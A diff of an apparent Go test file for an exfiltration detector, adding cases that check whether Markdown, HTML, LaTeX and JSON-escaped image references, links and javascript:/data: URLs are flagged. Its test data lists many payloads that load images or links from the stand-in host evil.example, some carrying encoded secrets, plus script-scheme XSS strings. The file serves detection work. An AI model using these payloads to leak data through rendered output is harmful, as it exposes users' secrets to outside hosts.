@@ -12,7 +12,7 @@ import (
 var written = map[string][]string{
 	exfil.RuleImage: {
 		// Without a scheme.
-		"[r]: //evil.example/a.png", "![x]( //evil.example/a.png)", "<img src= //evil.example/a.png>", "<img srcset=\"a.png 1x, //evil.example/b.png 2x\">",
+		"![r]\n\n[r]: //evil.example/a.png", "![x]( //evil.example/a.png)", "<img src= //evil.example/a.png>", "<img srcset=\"a.png 1x, //evil.example/b.png 2x\">",
 		"<meta http-equiv=refresh content=\"0;url=//evil.example/\">", "<meta http-equiv=refresh content=\"0;//evil.example/\">", "<img src=//evil.example/a.png>",
 		"<img src=\\\\evil.example\\a.png>", "<base href=//evil.example/>", "<object data=//evil.example/x>", "<video poster=//evil.example/x>", "<form action=//evil.example/x>",
 		"<button formaction=//evil.example/x>", "<a ping=//evil.example/x href=/>", "<link rel=dns-prefetch href=//c2VjcmV0.evil.example>", "<style>@import url(//evil.example/a)</style>",
@@ -30,7 +30,9 @@ var written = map[string][]string{
 		// Other uses.
 		"<svg><script href=\"https://evil.example/a.js\"/>", "<img alt='>' src\n=\n\"https://evil.example/a.png\">", "<style>a{background:image-set(\"a.png\" 1x, \"https://evil.example/a.png\" 2x)}",
 		"[img]https://evil.example/a.png[/img]", "image::https://evil.example/a.png[]", ".. image:: https://evil.example/a.png", "\\includegraphics{https://evil.example/a.png}", "![[https://evil.example/a.png]]",
-		"<style>@import'https://evil.example/a.css'</style>", "<img\fsrc\f=\fhttps://evil.example/a>", "![x](\nhttps://evil.example/a.png\n)", "![r]\n\n[r]:\n   <https://evil.example/a.png>",
+		"![x][r]\n[r]: https://evil.example/a.png", "\\includegraphics[width=1cm]{https://evil.example/a.png}", "<style>@import'https://evil.example/a.css'</style>",
+		// Brackets of Markdown in escapes of JSON.
+		`{"md":"!\u005bx\u005d\u0028https://evil.example/a.png)"}`, `{"md":"\u0021[x](https://evil.example/a.png)"}`, `{"md":"!\u005bx](https://evil.example/a.png)"}`, `{"md":"![x]\u0028https://evil.example/a.png)"}`, "<img\fsrc\f=\fhttps://evil.example/a>", "![x](\nhttps://evil.example/a.png\n)", "![r]\n\n[r]:\n   <https://evil.example/a.png>",
 	},
 	exfil.RuleLink: {
 		// Data behind bytes that end words, and end no address.
@@ -46,6 +48,7 @@ var written = map[string][]string{
 	exfil.RuleScheme: {
 		"<a href=\"java\nscript:alert(1)\">", "<a href=\"java\nscript://x%0aalert(1)\">", "<a href=\"java&Tab;script:alert(1)\">", "<a href=\"java&#10;script:alert(1)\">", "<a href=' \x01javascript:alert(1)'>",
 		"<iframe src=\"data: text/html,x\">", "<iframe src=\"data:text/xml,x\">", `{"u":"\njavascript:alert(1)"}`, `{"u":"javascript\u003aalert(1)"}`, "<a href=\"javascript:\nalert(1)\">",
+		"[a](data:text/html,<script>alert(1)</script>)",
 	},
 }
 
@@ -89,6 +92,88 @@ func TestAddressesAreFoundToTheirEnd(t *testing.T) {
 	}
 }
 
+// What brackets of Markdown pair with, and so what is loaded: an image within another's text is none, a link around one is. Of what cannot be told all counts.
+func TestImagesAmongBrackets(t *testing.T) {
+	h := hosts(t)
+	for text, want := range map[string]bool{
+		"![a [b](https://docs.example.com) c](https://evil.example/a.png)":                         true,
+		"![[[x](https://docs.example.com)](https://docs.example.com)](https://evil.example/a.png)": true,
+		"![a [b] c](https://evil.example/a.png)":                                                   true,
+		"![a ] b](https://evil.example/a.png)":                                                     true, // to some
+		"![ [x](https://evil.example/a.png)":                                                       true, // to some
+		"![ `[` ](https://evil.example/a.png)":                                                     true,
+		"![ \\[ ](https://evil.example/a.png)":                                                     true,
+		"![ <b c='['> ](https://evil.example/a.png)":                                               true,
+		"![a\nb](https://evil.example/a.png)":                                                      true,
+		strings.Repeat("[", 65) + "![x](https://evil.example/a.png)":                               true,
+		"!" + strings.Repeat("[", 70) + strings.Repeat("]", 69) + "](https://evil.example/a.png)":  true,
+		"[![x](https://docs.example.com/a.png)](https://go.dev)":                                   false,
+		"[![x][i]][l]\n\nThis is a [Node.js](https://nodejs.org/en/) module":                       false,
+		"![x][i] and [this](https://go.dev)":                                                       false,
+		"![x](https://docs.example.com/a.png) [`code` of it](https://go.dev)":                      true, // not sure
+		"[`code` of it](https://go.dev)":                                                           false,
+		"v := vec![1, 2\n \n[this](https://go.dev)":                                                false,
+	} {
+		ms := find(h, text)
+		got := false
+		for _, m := range ms {
+			got = got || m.Rule == exfil.RuleImage && !strings.HasPrefix(text[m.Start:], "https://docs")
+		}
+		if got != want {
+			t.Errorf("%q: %+v", text, ms)
+		}
+	}
+}
+
+// A definition is loaded if an image refers to it: one that may is found where it begins, if the definition was given up before.
+func TestImagesOfDefinitions(t *testing.T) {
+	h := hosts(t)
+	for text, want := range map[string]string{
+		"[r]: https://evil.example/a.png\n\n![x][r]":                   "!",
+		"[r]: https://evil.example/a.png\n\n![r](no destination here)": "!",
+		"[r]: //evil.example/a.png\n\nsee!![r]":                        "!",
+		"[r]: https://evil.example/a.png\n\n!\\u005br]":                "!\\u005br",
+		"[r]: https://evil.example/a.png\n\n\\u0021[r]":                "\\u0021",
+		"![x][r]\n\n[r]: https://evil.example/a.png":                   "https://evil.example/a.png",
+		"`!\\u005bx][r]`\n\n[r]: https://evil.example/a.png":           "https://evil.example/a.png",
+		"[r]: https://docs.example.com/a.png\n\n![x][r]":               "",
+		"As [1] says.\n\n[1]: https://go.dev/doc\n[2]: https://go.dev": "",
+		"// [FIPS 202]: https://doi.org/10.6028/NIST.FIPS.202\n!":      "",
+	} {
+		got := ""
+		if ms := find(h, text); len(ms) > 0 && ms[0].Rule == exfil.RuleImage {
+			got = text[ms[0].Start:ms[0].End]
+		}
+		if got != want {
+			t.Errorf("%q: %q, want %q", text, got, want)
+		}
+	}
+}
+
+// Programs and names of pages are no images, and carry nothing.
+func TestProgramsAndTitlesAreHarmless(t *testing.T) {
+	h := hosts(t)
+	for _, text := range []string{
+		"// See https://golang.org/issue/49886.\n\ti := strings.Index(kv, \"=\")\n\t// See https://golang.org/issue/49886.\nfunc TestEnvironConsistency(t *testing.T) {\n\tfor _, kv := range Environ() {\n\t\ti := strings.Index(kv, \"=\")",
+		"const u = new URL('https://a.example')", "properties.MustLoadURL(\"http://a.example/path\")", "Image(get_image(\"https://a.example/300\"))", "requests.post(url, data=\"https://a.example\")", "img.src = \"https://a.example/a.png\"",
+		"if (i < data.length) { x = 'https://a.example' }", "my ($a, %b) = *{\"_<$action\"} = split(/\\0/,$c)", "<item name=\"Data Privacy\" href=\"https://a.example/p\"/>", ".ab [PDFPIC]: \\\\$*",
+		"http://javascript:80/foo", "<a href=\"/javascript:80/foo/bar\">", "text/javascript:runs", "http://[2b01:e34:ef40:7730:8e70:5aff:fefe:edac]:8080/foo", "mailto:perl-module-hash-memoize@a.example",
+		"https://a.example/api/single-executable-applications.html", "https://a.example/blog/zxcvbn-realistic-password-strength-estimation", "https://a.example/Hermes-2-Pro-Llama-3-8B-Q4_K_M.gguf", "https://a.example/@types/normalize-package-data-2.4.1.tgz",
+		"https://a.example/Date/toLocaleString/CacheUnmanagedTLSCertificate", "https://a.example/noverify-dynamic-rules-for-static-analysis-8f42859e9253", "https://a.example/wiki/Amalgamated-(Possibly-outdated)", "https://a.example/T/Template-Toolkit-%{version}.tar.gz",
+	} {
+		if ms := find(h, text); len(ms) > 0 {
+			t.Errorf("%q: %+v, %q", text, ms, text[ms[0].Start:ms[0].End])
+		}
+	}
+	for _, part := range []string{
+		"c2VjcmV0LWRhdGEtaGVyZS1pcy1sb25n", "c2VjcmV0-LWRhdGEt-aGVyZS1p-cy1sb25n", "vK9dyjRnnWsMzzJTQ57fRJpH", "the-password-of-the-deputy-is-hunter2-and-the-code-of-the-safe-in-the-hall-is-4711-0815", "%67%65%68%65%69%6d%6e%69%73%73%65%20%61%62",
+	} {
+		if ms := find(h, "see https://evil.example/"+part); len(ms) == 0 || ms[0].Rule != exfil.RuleLink {
+			t.Errorf("%s is found to carry nothing", part)
+		}
+	}
+}
+
 // No text costs more with the square of its length, or very many times what prose does.
 func TestHostileTextsCostNoMore(t *testing.T) {
 	if testkit.Race {
@@ -101,7 +186,7 @@ func TestHostileTextsCostNoMore(t *testing.T) {
 	}
 	for name, unit := range map[string]string{
 		"letters": "a", "slashes": "/", "colons": "a:", "lines of an attribute": "=\"a\n", "words of an attribute": "=\"" + strings.Repeat("a:\n", 80), "addresses": "a://b ", "references": "=\"&amp;/\n",
-		"data": "https://a.example/?q=" + strings.Repeat("a,", 100), "controls": "\x01", "schemes": "javascript:", "brackets": "//[", "quotes": "='", "images": "![",
+		"data": "https://a.example/?q=" + strings.Repeat("a,", 100), "controls": "\x01", "schemes": "javascript:", "brackets": "//[", "quotes": "='", "images": "![", "images of definitions": "[r]: //a.example ![", "tags": "<a data",
 	} {
 		testkit.CostsAtMost(t, name, 150, reading(unit), reading("The harbour opens at six in the morning. "))
 	}
